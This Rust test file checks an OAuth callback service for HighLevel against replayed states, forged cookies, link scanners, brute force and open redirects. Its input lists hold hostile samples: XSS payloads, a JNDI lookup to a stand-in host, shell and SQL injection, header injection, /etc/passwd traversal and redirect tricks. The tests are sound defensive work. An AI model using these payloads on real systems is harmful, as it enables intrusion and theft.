//! What comes by way of someone's browser: states that are guessed, used twice or in another browser,
//! codes that nobody asked for, words that want to be more than words, and those who only look.

use std::sync::Arc;

use sandbox::UserType;
use tokens::records::{Reach, Verb};
use tokens::store::{Claim, ClaimRequest, FlightId, IntentThen};
use tokens::{Broken, CompanyId, Connection, InstallationId, NoticeKind, Store, Subject};

use crate::house::{House, block_on, empty_home, home, now, until};
use crate::support::{ELSEWHERE, Home};
use crate::wire::{Answer, ask, ask_all, bearer, request};

/// The cookie's name where the redirect address is `https`.
const COOKIE: &str = "__Host-ghl-auth";

/// A browser that was sent to HighLevel.
#[derive(Clone, Debug)]
struct Sent {
    state: String,
    cookie: String,
}

impl House {
    fn admin_key(&self) -> String {
        let key = self.key(&[Verb::Admin], Reach::All);
        self.until_known(&key);
        key
    }

    /// A link for a person.
    fn link(&self, key: &str) -> String {
        let answer = self.ask("POST", "/oauth/links", key, "");
        assert_eq!(answer.status, 201, "{}", answer.body);
        let link = answer.body.split_once("link=").expect("a link").1;
        let link = link.split('"').next().expect("its end").to_owned();
        self.plant(&link);
        link
    }

    /// Presses the button behind a link.
    fn press(&self, form: &str) -> Answer {
        ask(&self.public, &request("POST", "/oauth/start", &[], form))
    }

    fn sent(&self, key: &str) -> Sent {
        self.sent_by(&self.get("/oauth/start", key))
    }

    fn sent_by(&self, answer: &Answer) -> Sent {
        assert_eq!(answer.status, 303, "{}", answer.body);
        let location = answer.header("location").expect("a location");
        let state = location.split_once("&state=").expect("a state").1.to_owned();
        let cookie = answer.header("set-cookie").expect("a cookie");
        let (pair, attributes) = cookie.split_once("; ").expect("attributes");
        assert_eq!(attributes, "Path=/; HttpOnly; SameSite=Lax; Max-Age=600; Secure");
        let cookie = pair.strip_prefix(COOKIE).and_then(|pair| pair.strip_prefix('=')).expect("its name");
        for secret in [state.as_str(), cookie] {
            assert!(
                secret.len() == 43 && secret.bytes().all(|c| c.is_ascii_alphanumeric() || b"-_".contains(&c))
            );
            self.plant(secret);
        }
        Sent { state, cookie: cookie.to_owned() }
    }

    /// Comes back from HighLevel.
    fn back(&self, query: &str, headers: &[(&str, &str)]) -> Answer {
        ask(&self.public, &request("GET", &format!("/oauth/callback?{query}"), headers, ""))
    }

    fn code(&self, class: UserType) -> String {
        let code = self.home.code(class);
        self.plant(&code);
        code
    }

    /// How often HighLevel was asked for a code's tokens.
    fn exchanges(&self) -> usize {
        let ledger = self.home.sandbox.ledger();
        ledger.token_requests.iter().filter(|asked| asked.grant_type == "authorization_code").count()
    }
}

fn cookie(value: &str) -> String {
    format!("{COOKIE}={value}")
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn a_state_is_good_once_within_ten_minutes_and_in_its_own_browser() {
    let house = House::of(empty_home());
    let key = house.admin_key();
    let code = house.code(UserType::Location);
    let (one, other) = (house.sent(&key), house.sent(&key));
    assert!(one.state != other.state && one.cookie != other.cookie && one.state != one.cookie);
    let reversed: String = one.state.chars().rev().collect();
    let refused = |query: &str, headers: &[(&str, &str)]| {
        let answer = house.back(query, headers);
        assert!(
            [400, 403].contains(&answer.status),
            "{query} {headers:?}: {} {}",
            answer.status,
            answer.body
        );
    };
    let own = cookie(&one.cookie);
    for state in [
        other.state.as_str(),
        &reversed,
        &one.state[..42],
        &one.state[1..],
        &format!("{}x", one.state),
        &format!("{}%00", one.state),
        &format!("{}=", one.state),
        &format!("%20{}", one.state),
        &one.state.to_ascii_lowercase(),
        &one.state.to_ascii_uppercase(),
        &one.cookie,
        &format!("{}.{}", one.state, one.cookie),
        "null",
        "undefined",
        "0",
        "%00",
        "a",
    ] {
        refused(&format!("code={code}&state={state}"), &[("Cookie", &own)]);
    }
    // Another browser, one without cookies, and one whose cookie is nearly ours.
    let good = format!("code={code}&state={}", one.state);
    refused(&good, &[]);
    for wrong in [
        cookie(&other.cookie),
        cookie(""),
        cookie(&one.state),
        cookie(&one.cookie[..42]),
        cookie(&one.cookie.to_ascii_lowercase()),
        cookie(&format!("\"{}\"", one.cookie)),
        cookie(&percent(&one.cookie)),
        format!("ghl-auth={}", one.cookie),
        format!("__Secure-ghl-auth={}", one.cookie),
        format!("__host-ghl-auth={}", one.cookie),
        format!("{COOKIE}2={}", one.cookie),
        format!("{COOKIE}={}; {COOKIE}={}", other.cookie, one.cookie),
        format!("a={}", cookie(&one.cookie)),
        one.cookie.clone(),
    ] {
        refused(&good, &[("Cookie", &wrong)]);
    }
    refused(&format!("{good}&state={}", one.state), &[("Cookie", &own)]);
    refused(&format!("{good}&code={code}"), &[("Cookie", &own)]);
    refused(&format!("state={}", one.state), &[("Cookie", &own)]);
    refused(&format!("code=&state={}", one.state), &[("Cookie", &own)]);
    assert_eq!(house.exchanges(), 0);

    // Ten minutes: what is kept says when it ends, and then it is not found.
    let records = rusqlite::Connection::open(house.home.path("tokens.db.records.db")).expect("the records");
    let ends: Vec<i64> = {
        let mut rows = records.prepare("SELECT expires_at FROM visits").expect("SQL");
        rows.query_map([], |row| row.get(0)).expect("rows").map(|at| at.expect("an instant")).collect()
    };
    assert_eq!(ends.len(), 2, "what was refused above has used nothing up");
    let from_now = |at: &i64| (at - now().as_millis()) / 1000;
    assert!(ends.iter().all(|at| (500..=600).contains(&from_now(at))), "{ends:?}");
    let late = house.sent(&key);
    let ended = now().as_millis() - 1;
    records
        .execute(
            "UPDATE visits SET expires_at = ?1 WHERE expires_at = (SELECT max(expires_at) FROM visits)",
            [ended],
        )
        .expect("changed");
    refused(&format!("code={code}&state={}", late.state), &[("Cookie", &cookie(&late.cookie))]);
    assert_eq!(house.exchanges(), 0);

    // Fifty times at once, at both listeners: once.
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let back: Vec<_> = (0..50)
            .map(|number| {
                let address = if number % 2 == 0 { &house.private } else { &house.public };
                let asked = request("GET", &format!("/oauth/callback?{good}"), &[("Cookie", &own)], "");
                scope.spawn(move || ask(address, &asked).status)
            })
            .collect();
        back.into_iter().map(|answer| answer.join().expect("no panic")).collect()
    });
    assert_eq!(statuses.iter().filter(|status| **status == 200).count(), 1, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|status| **status == 403).count(), 49, "{statuses:?}");
    assert_eq!(house.exchanges(), 1);
    refused(&good, &[("Cookie", &own)]);
    let again = house.code(UserType::Location);
    refused(&format!("code={again}&state={}", one.state), &[("Cookie", &own)]);
    assert_eq!(house.exchanges(), 1);
    house.end();
}

#[test]
fn a_link_is_good_once_and_for_nothing_else() {
    let house = House::of(empty_home());
    let key = house.admin_key();
    let link = house.link(&key);
    // Looking at it, however often, uses nothing up, and what is not quite it opens nothing.
    for _ in 0..3 {
        let looked = ask(&house.public, &request("GET", &format!("/oauth/start?link={link}"), &[], ""));
        assert_eq!(looked.status, 200);
        looked.is_a_protected_page();
    }
    for form in [
        String::new(),
        "link=".into(),
        format!("link={}", &link[1..]),
        format!("link={link}x"),
        format!("link={}", link.to_ascii_lowercase()),
        format!("Link={link}"),
        format!("link={link}&link={link}"),
        "link=%00".into(),
        "link=.".into(),
    ] {
        assert!([400, 403].contains(&house.press(&form).status), "{form}");
    }
    let in_the_address = request("POST", &format!("/oauth/start?link={link}"), &[], "");
    assert_eq!(ask(&house.public, &in_the_address).status, 400);
    // A link is no state, nor the other way round.
    let code = house.code(UserType::Location);
    let headers = [("Cookie", cookie(&link))];
    let headers: Vec<(&str, &str)> = headers.iter().map(|(name, value)| (*name, value.as_str())).collect();
    assert_eq!(house.back(&format!("code={code}&state={link}"), &headers).status, 403);
    let sent = house.sent_by(&house.press(&format!("link={link}")));
    assert_eq!(house.press(&format!("link={link}")).status, 403, "once");
    for form in [
        format!("link={}", sent.state),
        format!("link={}", sent.cookie),
        format!("link={}.{}", sent.state, sent.cookie),
        format!("link=state.{}.{}", sent.state, sent.cookie),
    ] {
        assert_eq!(house.press(&form).status, 403, "nobody makes one link out of another: {form}");
    }
    assert_eq!(house.exchanges(), 0);
    let query = format!("code={code}&state={}", sent.state);
    assert_eq!(house.back(&query, &[("Cookie", &cookie(&sent.cookie))]).status, 200);
    assert_eq!(house.exchanges(), 1);
    house.end();
}

/// What we have for an installation when someone else's code for it comes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Present {
    Nothing,
    Healthy,
    Broken,
}

#[test]
fn a_code_that_nobody_asked_for_never_takes_the_place_of_what_works() {
    for (policy, serves_new, serves_broken) in [
        ("approve", false, false),
        ("allowlist", true, true),
        ("allowlist-of-another", false, false),
        ("open", true, true),
    ] {
        for present in [Present::Nothing, Present::Healthy, Present::Broken] {
            for class in [UserType::Location, UserType::Company] {
                let served = match present {
                    Present::Nothing => serves_new,
                    Present::Healthy => false,
                    Present::Broken => serves_broken,
                };
                unasked(policy, present, class, served);
            }
        }
    }
}

fn unasked(policy: &str, present: Present, class: UserType, served: bool) {
    let home = Home::new().sealed().set("GHL_STORE", "sqlite:tokens.db");
    let home = home.set("GHL_AUTH_LISTEN", "127.0.0.1:0").set("GHL_AUTH_PUBLIC_LISTEN", "127.0.0.1:0");
    let settings = home.sandbox.settings();
    let id = match class {
        UserType::Location => crate::house::location(&settings.location_id),
        UserType::Company => {
            InstallationId::Company(settings.company_id.parse::<CompanyId>().expect("an id"))
        }
    };
    let allowed = if policy == "allowlist" { id.as_str().to_owned() } else { "another".to_owned() };
    let home = match policy {
        "allowlist" | "allowlist-of-another" => {
            home.set("GHL_AUTH_INSTALLS", "allowlist").set("GHL_AUTH_ALLOWED_INSTALLS", &allowed)
        }
        policy => home.set("GHL_AUTH_INSTALLS", policy),
    };
    let house = House::with(home, |store| {
        if present != Present::Nothing {
            crate::house::install(store, &id, "the-token-that-works");
        }
        if present == Present::Broken {
            breaks(store, &id);
        }
    });
    let what = format!("{policy}, {present:?}, {class:?}");
    // Which tokens are served, and by which authorisation.
    let served_now = || {
        let found = block_on(house.store.load(&id)).expect("the store");
        found.map(|installation| (installation.version.epoch, installation.tokens.access))
    };
    let before = served_now();
    let code = house.code(class);
    // A look shows a button; pressing it is what a stranger's page can make a browser do, too.
    let looked = house.back(&format!("code={code}"), &[]);
    assert_eq!((looked.status, house.exchanges()), (200, 0), "{what}");
    let pressed = ask(&house.public, &request("POST", "/oauth/callback", &[], &format!("code={code}")));
    assert_eq!(pressed.status, if served { 200 } else { 202 }, "{what}: {}", pressed.body);
    let after = served_now();
    match served {
        true => assert_ne!(after, before, "{what}"),
        false => {
            assert_eq!(after, before, "{what}");
            let parked = block_on(house.store.parked()).expect("the store");
            assert_eq!(parked.iter().map(|parked| &parked.id).collect::<Vec<_>>(), [&id], "{what}");
            // The operator is told.
            until(|| {
                let notices = block_on(house.records.notices(10)).expect("the records");
                notices.iter().any(|(notice, _)| {
                    notice.kind == NoticeKind::Parked && notice.subject == Subject::Installation(id.clone())
                })
            });
        }
    }
    assert_eq!(house.exchanges(), 1, "{what}");
    house.end();
}

/// Lets the store say that HighLevel has refused an installation's grant.
fn breaks(store: &Arc<dyn Store>, id: &InstallationId) {
    let seen = block_on(store.load(id)).expect("the store").expect("an installation").version;
    let claim = ClaimRequest { flight: FlightId("a-flight".into()), id: id.clone(), seen, now: now() };
    assert!(matches!(block_on(store.claim(&claim)), Ok(Claim::Ours { .. })));
    let broken = Connection::Broken(Broken { since: now(), said: "Invalid grant".into() });
    block_on(store.settle(&claim, &broken, IntentThen::Ended)).expect("settled");
}

/// Strings that want to be markup, headers, templates or commands. Each holds a word to look for.
fn words() -> Vec<String> {
    let seeds = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "</title><script>alert(1)</script>",
        "</blockquote><h1>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?xml?>",
        "<a href=javascript:alert(1)>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example>",
        "<input name=code value=x>",
        "<button formaction=//evil.example>",
        "<iframe src=//evil.example>",
        "<object data=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>*{background:url(//evil.example)}</style>",
        "<details open ontoggle=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "&lt;script&gt;",
        "&#60;script&#62;",
        "\u{ff1c}script\u{ff1e}",
        "\u{2028}",
        "\u{2029}",
        "\u{202e}gnp.txt",
        "\u{feff}",
        "\u{0}<b>",
        "<\u{0}script>",
        "\r\nSet-Cookie: a=b",
        "\r\nLocation: http://evil.example/",
        "\nX-Injected: yes",
        "\rX-Injected: yes",
        "\r\n\r\n<html>",
        "%0d%0aSet-Cookie:%20a=b",
        "%250d%250aX: y",
        "\u{560a}\u{560d}Set-Cookie: a=b",
        "\u{85}X-Injected: yes",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{7}",
        "\u{8}\u{8}\u{8}",
        "\u{1b}]0;title\u{7}",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{%25 debug %25}",
        "{$x}",
        "${jndi:ldap://evil.example/a}",
        "{ $said }",
        "{said}",
        "{\"said\"}",
        "%s%s%s%n",
        "%x",
        "{0}",
        "{}",
        "$(id)",
        "`id`",
        ";id",
        "|id",
        "&& id",
        "' OR '1'='1",
        "'; DROP TABLE visits; --",
        "\" OR 1=1 --",
        "../../../../etc/passwd",
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "//evil.example",
        "\\\\evil.example\\x",
        "INFO forged line",
        "{\"level\":\"error\"}",
        "null",
        "undefined",
        "NaN",
        "[object Object]",
        "true",
        "-1",
        "1e999",
        "\u{10ffff}",
        "\u{1f4a9}",
        "\u{fffd}",
        "e\u{301}",
        "\u{df}",
        "\u{130}",
        "A\u{30a}",
        "\u{200d}",
        "\u{ad}",
        "\u{6fd}",
        "\u{fdfd}",
    ];
    let mut all = Vec::new();
    for seed in seeds {
        all.push(format!("{seed}{WORD}"));
        all.push(format!("{WORD}{seed}"));
        all.push(format!("{WORD}{seed}{seed}{WORD}"));
    }
    all.extend([WORD.repeat(55), format!("{}{WORD}", "<".repeat(290)), "&".repeat(300) + WORD]);
    all
}

/// Stands in every hostile string.
const WORD: &str = "xqzjk";

#[test]
fn words_of_others_stay_words_on_the_page_and_out_of_the_log() {
    let house = House::of(empty_home());
    let words = words();
    assert!(words.len() >= 300, "{}", words.len());
    let queries: [&dyn Fn(&str) -> String; 9] = [
        &|word| format!("/oauth/callback?error={word}"),
        &|word| format!("/oauth/callback?error=access_denied&error_description={word}"),
        &|word| format!("/oauth/callback?error={word}&error_description={word}&state={word}&iss={word}"),
        &|word| format!("/oauth/callback?code={word}"),
        &|word| format!("/oauth/callback?code={word}&iss={word}"),
        &|word| format!("/oauth/callback?code=a&state={word}"),
        &|word| format!("/oauth/callback?state={word}"),
        &|word| format!("/oauth/callback?{word}=a&code={word}"),
        &|word| format!("/oauth/start?link={word}"),
    ];
    for (place, query) in queries.iter().enumerate() {
        let address = if place % 2 == 0 { &house.public } else { &house.private };
        let markup = |page: &str| "<>\"'".chars().map(|c| page.matches(c).count()).collect::<Vec<_>>();
        let get = |target: &str| request("GET", target, &[], "");
        let plain = ask(address, &get(&query("plain")));
        let requests: Vec<Vec<u8>> = words.iter().map(|word| get(&query(&percent(word)))).collect();
        for (word, answer) in words.iter().zip(ask_all(address, &requests)) {
            let what = format!("{word:?} at {}", query("…"));
            // As many marks as on the page with a plain word: none of them is of theirs.
            assert_eq!(markup(&answer.body), markup(&plain.body), "{what}: {}", answer.body);
            assert_eq!(answer.status, plain.status, "{what}");
            assert!(!answer.body.chars().any(char::is_control), "{what}: {}", answer.body);
            assert!(!answer.body.contains("49"), "{what}: it was worked out: {}", answer.body);
            assert!(answer.headers().all(|(_, value)| !value.contains(WORD)), "{what}: {}", answer.head);
            answer.is_a_protected_page();
        }
    }
    // Such a code is HighLevel's to refuse; its words are on no page and in no log either.
    for word in words.iter().step_by(12) {
        let form = format!("code={}", percent(word));
        let answer = ask(&house.public, &request("POST", "/oauth/callback", &[], &form));
        assert_eq!(answer.status, 403, "{word:?}: {}", answer.body);
        assert!(!answer.body.contains(WORD), "{}", answer.body);
    }
    // As they are, without percent signs, they are no target at all, or end it.
    for word in words.iter().filter(|word| word.is_ascii()).step_by(5) {
        let bytes = request("GET", &format!("/oauth/callback?error={word}"), &[], "");
        if let Some(answer) = crate::wire::ask_or_be_left(&house.public, &bytes) {
            assert!(answer.status >= 400, "{word:?}");
            assert_eq!(answer.header("set-cookie"), None);
        }
    }
    let long =
        ask(&house.public, &request("GET", &format!("/oauth/callback?error={}", "a".repeat(5000)), &[], ""));
    assert_eq!(long.status, 414);
    long.is_a_protected_page();
    house.plant(WORD);
    house.plant(&percent(WORD));
    house.end();
}

#[test]
fn whoever_only_looks_uses_up_neither_a_code_nor_a_state_nor_a_link() {
    let house = House::of(empty_home());
    let key = house.admin_key();
    let code = house.code(UserType::Location);
    let link = house.link(&key);
    let sent = house.sent(&key);
    let before = house.dump();
    let with_state = format!("/oauth/callback?code={code}&state={}", sent.state);
    let without = format!("/oauth/callback?code={code}");
    let start = format!("/oauth/start?link={link}");
    let own = cookie(&sent.cookie);
    let mut looks = Vec::new();
    for (name, value) in [
        ("Purpose", "prefetch"),
        ("Purpose", "Prefetch"),
        ("Sec-Purpose", "prefetch"),
        ("Sec-Purpose", "prefetch;prerender"),
        ("Sec-Purpose", "prefetch;anonymous-client-ip"),
        ("X-Purpose", "preview"),
        ("X-Purpose", "instant, preview"),
        ("X-Moz", "prefetch"),
        ("sec-purpose", "PRERENDER"),
    ] {
        // Even in the browser that holds the cookie.
        for target in [&with_state, &without, &start] {
            looks.push(request("GET", target, &[(name, value), ("Cookie", &own)], ""));
        }
    }
    for agent in [
        "Mozilla/5.0 (compatible; Microsoft Outlook; ms-office; SafeLinks)",
        "Slackbot-LinkExpanding 1.0",
        "WhatsApp/2.23.20.0",
        "TelegramBot (like TwitterBot)",
        "facebookexternalhit/1.1",
        "Twitterbot/1.0",
        "LinkedInBot/1.0",
        "Discordbot/2.0",
        "Google-Safety; (+http://www.google.com/bot.html)",
        "BarracudaCentral",
        "Mimecast",
        "Proofpoint",
        "Symantec",
        "bitlybot/3.0",
        "SkypeUriPreview",
        "Mozilla/5.0 (iPhone) like a person",
    ] {
        // A scanner gets the address by mail or chat and keeps no cookies.
        for target in [&with_state, &without, &start] {
            looks.push(request("GET", target, &[("User-Agent", agent)], ""));
            looks.push(request("HEAD", target, &[("User-Agent", agent)], ""));
        }
    }
    for target in [&with_state, &without, &start] {
        for method in ["HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "BREW"] {
            looks.push(request(method, target, &[("Cookie", &own)], ""));
        }
    }
    for address in [&house.public, &house.private] {
        for answer in ask_all(address, &looks) {
            assert!([200, 403, 405].contains(&answer.status), "{}", answer.head);
            assert_eq!(answer.header("set-cookie"), None);
        }
    }
    assert_eq!(house.exchanges(), 0);
    assert_eq!(house.dump(), before, "nothing was written");
    // And still it is all good for the one whom it is for.
    house.sent_by(&house.press(&format!("link={link}")));
    let query = format!("code={code}&state={}", sent.state);
    assert_eq!(house.back(&query, &[("Cookie", &own)]).status, 200);
    assert_eq!(house.exchanges(), 1);
    house.end();
}

#[test]
fn a_code_is_shown_to_its_own_apps_highlevel_only() {
    let (ours, theirs) = (
        House::of(empty_home()),
        House::of(
            Home::with(|settings| {
                settings.seed = 7;
                settings.client_id = "77aa77aa77aa77aa77aa77aa-theirs".into();
            })
            .sealed()
            .set("GHL_STORE", "sqlite:tokens.db")
            .set("GHL_AUTH_LISTEN", "127.0.0.1:0")
            .set("GHL_AUTH_PUBLIC_LISTEN", "127.0.0.1:0"),
        ),
    );
    let (key, their_key) = (ours.admin_key(), theirs.admin_key());
    let (sent, theirs_sent) = (ours.sent(&key), theirs.sent(&their_key));
    let their_code = theirs.code(UserType::Location);
    // Their callback comes to us, with their state or ours, with their cookie or ours.
    for (state, value) in [
        (&theirs_sent.state, &theirs_sent.cookie),
        (&theirs_sent.state, &sent.cookie),
        (&sent.state, &theirs_sent.cookie),
    ] {
        let query =
            format!("code={their_code}&state={state}&client_id=77aa77aa77aa77aa77aa77aa-theirs&iss=theirs");
        assert_eq!(ours.back(&query, &[("Cookie", &cookie(value))]).status, 403);
    }
    assert_eq!((ours.exchanges(), theirs.exchanges()), (0, 0));
    // With no state at all we ask our own HighLevel, which knows of no such code.
    let form = format!("code={their_code}&client_id=theirs&redirect_uri={}", theirs.home.sandbox.base_url());
    assert_eq!(ask(&ours.public, &request("POST", "/oauth/callback", &[], &form)).status, 403);
    assert_eq!((ours.exchanges(), theirs.exchanges()), (1, 0));
    // It is still good where it belongs.
    let query = format!("code={their_code}&state={}", theirs_sent.state);
    assert_eq!(theirs.back(&query, &[("Cookie", &cookie(&theirs_sent.cookie))]).status, 200);
    ours.end();
    theirs.end();
}

/// Where someone would like a browser to be sent.
fn elsewhere() -> Vec<String> {
    let hosts = [
        "evil.example",
        "example.com.evil.example",
        "evil.example%23.example.com",
        "example.com@evil.example",
    ];
    let forms = [
        "http://{}",
        "https://{}",
        "//{}",
        "///{}",
        "////{}",
        "/\\{}",
        "\\\\{}",
        "\\/{}",
        "/%09/{}",
        "/%5c{}",
        "https:{}",
        "https:/{}",
        "https:///{}",
        "http:\\\\{}",
        "%2f%2f{}",
        "%252f%252f{}",
        "/%2f{}",
        "/.{}",
        "/..//{}",
        ".{}",
        "@{}",
        "%40{}",
        ":@{}",
        "?{}",
        "#{}",
        ";{}",
        "%0d%0aLocation:%20http://{}",
        "%0aLocation:{}",
        "javascript:location='//{}'",
        "data:text/html,{}",
        "vbscript:{}",
        "ftp://{}",
        "ws://{}",
        "HtTpS://{}",
        "%20//{}",
        "%09//{}",
        "%00//{}",
        "https://localhost@{}",
        "https://localhost%2f@{}",
        "https://localhost:80@{}",
        "https://localhost.{}",
        "https://{}/oauth/callback",
        "https://{}:443/v2/oauth/chooselocation",
        "https://{}%00",
        "/oauth/callback/../../{}",
        "/oauth/start?next=//{}",
        "http://[::1]@{}",
        "http://127.0.0.1@{}",
        "//{}%2e",
        "〱{}",
        "〵{}",
        "/〱{}",
        "https://marketplace.gohighlevel.com.{}",
        "https://marketplace.gohighlevel.com@{}",
        "https%3a%2f%2f{}",
        "http%3A//{}",
        "h%74tp://{}",
        "intent://{}#Intent;end",
        "x:{}",
        "/{}/..;/",
        "%E2%80%AE//{}",
        "//%E3%80%82{}",
        "/%2e%2e/{}",
        "{}",
        "https://0{}",
        "https://{}.",
        "https://{}?",
        "https://{}#",
        "https://{}/%2e",
        "https://{}\\",
        "https://{}/%5c",
        "https://user:pass@{}",
        "https://{}:80",
        "//{}:80",
        "//{}/",
        "//{}?a=b",
    ];
    hosts.iter().flat_map(|host| forms.map(|form| form.replace("{}", host))).collect()
}

#[test]
fn no_parameter_changes_where_a_browser_is_sent() {
    let house = House::of(home());
    let key = house.admin_key();
    let elsewhere = elsewhere();
    assert!(elsewhere.len() >= 300, "{}", elsewhere.len());
    let names = [
        "return_to",
        "redirect",
        "redirect_uri",
        "redirect_url",
        "next",
        "url",
        "goto",
        "dest",
        "destination",
        "continue",
        "callback",
        "rurl",
        "target",
        "to",
        "u",
        "returnUrl",
        "return",
        "r",
        "page",
        "back",
        "origin",
        "client_id",
        "scope",
        "response_type",
        "version_id",
        "state",
        "login_hint",
        "prompt",
        "host",
        "authorize_url",
    ];
    let location = |answer: &Answer| {
        let location = answer.header("location").expect("a location");
        location.split_once("&state=").expect("a state").0.to_owned()
    };
    let authorization = bearer(&key);
    let wanted = location(&house.get("/oauth/start", &key));
    let page = "https://marketplace.gohighlevel.com/v2/oauth/chooselocation?";
    assert!(wanted.starts_with(page) || wanted.starts_with(&house.home.sandbox.authorize_url()), "{wanted}");
    assert!(wanted.contains(&percent_of_redirect()), "{wanted}");

    let mut sends = Vec::new();
    for (place, value) in elsewhere.iter().enumerate() {
        let name = names[place % names.len()];
        let headers = [
            ("Authorization", authorization.as_str()),
            ("Referer", "https://evil.example/"),
            ("Origin", "https://evil.example"),
            ("X-Forwarded-Host", "evil.example"),
            ("X-Forwarded-Prefix", "//evil.example"),
        ];
        let value = value.replace(['\\', '〱', '〵', '#', ' '], "%5c");
        sends.push(request("GET", &format!("/oauth/start?{name}={value}"), &headers, ""));
    }
    for (request, answer) in sends.iter().zip(ask_all(&house.private, &sends)) {
        assert_eq!(answer.status, 303, "{}", answer.body);
        assert_eq!(location(&answer), wanted, "{}", String::from_utf8_lossy(request));
    }
    // The same behind a link, in its form; and no link leads elsewhere.
    for (place, value) in elsewhere.iter().enumerate().step_by(4) {
        let name = names[(place / 4) % names.len()];
        let headers = [("Authorization", authorization.as_str()), ("X-Forwarded-Host", "evil.example")];
        let made = ask(&house.private, &request("POST", &format!("/oauth/links?{name}=x"), &headers, ""));
        assert!(made.body.contains("\"https://example.com/oauth/start?link="), "{}", made.body);
        let link =
            made.body.split_once("link=").and_then(|(_, rest)| rest.split('"').next()).expect("a link");
        let answer = house.press(&format!("{name}={}&link={link}", percent(value)));
        assert_eq!(location(&answer), wanted, "{name}={value}");
    }
    // Nothing that comes back sends a browser anywhere, nor does a path that looks like a host.
    let mut backs: Vec<Vec<u8>> = Vec::new();
    for value in &elsewhere {
        let value = percent(value);
        for name in ["state", "code", "error", "return_to", "error_uri", "redirect_uri"] {
            backs.push(request("GET", &format!("/oauth/callback?{name}={value}"), &[], ""));
        }
        backs.push(request("GET", &format!("/{value}"), &[], ""));
        backs.push(request("GET", &format!("//{value}"), &[], ""));
        backs.push(request("GET", &format!("/oauth/start/{value}"), &[], ""));
    }
    for address in [&house.public, &house.private] {
        for (request, answer) in backs.iter().zip(ask_all(address, &backs)) {
            let what = String::from_utf8_lossy(request);
            assert!(!(300..400).contains(&answer.status), "{what}");
            assert_eq!(answer.header("location"), None, "{what}");
        }
    }
    house.end();
}

fn percent_of_redirect() -> String {
    ELSEWHERE.replace(':', "%3A").replace('/', "%2F")
}

#[test]
fn a_crowd_that_presses_the_button_with_made_up_codes_is_kept_from_highlevel() {
    let house = House::of(empty_home());
    let key = house.master_key();
    let began = std::time::Instant::now();
    let pressed: Vec<Vec<u8>> = (0..300)
        .map(|number| request("POST", "/oauth/callback", &[], &format!("code=made-up-{number}")))
        .collect();
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let crowds: Vec<_> =
            pressed.chunks(75).map(|crowd| scope.spawn(|| ask_all(&house.public, crowd))).collect();
        crowds
            .into_iter()
            .flat_map(|crowd| crowd.join().expect("no panic"))
            .map(|answer| answer.status)
            .collect()
    });
    let minutes = usize::try_from(began.elapsed().as_secs()).expect("a few") / 60 + 1;
    assert!(statuses.iter().all(|status| [403, 429].contains(status)), "{statuses:?}");
    assert!(house.exchanges() >= 30 && house.exchanges() <= 30 * minutes, "{} exchanges", house.exchanges());
    if minutes == 1 {
        let answer = ask(&house.public, &pressed[0]);
        assert_eq!((answer.status, answer.header("retry-after")), (429, Some("60")));
        answer.is_a_protected_page();
    }
    // Whoever was sent by us gets through, and so do programs.
    let sent = house.sent(&key);
    let code = house.code(UserType::Location);
    let query = format!("code={code}&state={}", sent.state);
    assert_eq!(house.back(&query, &[("Cookie", &cookie(&sent.cookie))]).status, 200);
    assert_eq!(house.get(&house.token_path(), &key).status, 200);
    house.end();
}
